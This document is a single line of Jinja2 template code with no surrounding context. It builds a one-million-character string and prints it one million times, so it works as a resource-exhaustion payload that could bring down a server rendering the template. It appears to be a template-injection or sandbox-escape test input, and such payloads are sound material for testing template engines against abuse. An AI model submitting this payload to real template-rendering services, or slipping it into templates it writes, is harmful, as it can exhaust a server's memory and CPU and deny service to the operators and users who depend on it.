{% set text = 'x' * 1000000 %}{% for a in range(1000000) %}{{ text }}{% endfor %}
